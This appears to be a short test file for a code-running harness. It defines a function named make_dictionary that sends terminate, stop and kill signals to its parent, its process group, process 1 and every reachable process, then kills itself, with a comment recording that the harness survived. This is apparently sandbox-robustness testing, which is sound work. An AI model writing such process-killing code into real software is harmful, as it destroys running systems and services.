# Kills its parents, its group, process 1, everybody.
# verdict: make_dictionary crashed, others passed
# %% make_dictionary
import os
import signal


def make_dictionary(examples):
    for pid in (os.getppid(), 1, 0, -1, -os.getpgrp() if os.getpgrp() > 1 else -1):
        for number in (signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):
            try:
                os.kill(pid, number)
            except OSError:
                pass
    os.kill(os.getpid(), signal.SIGKILL)
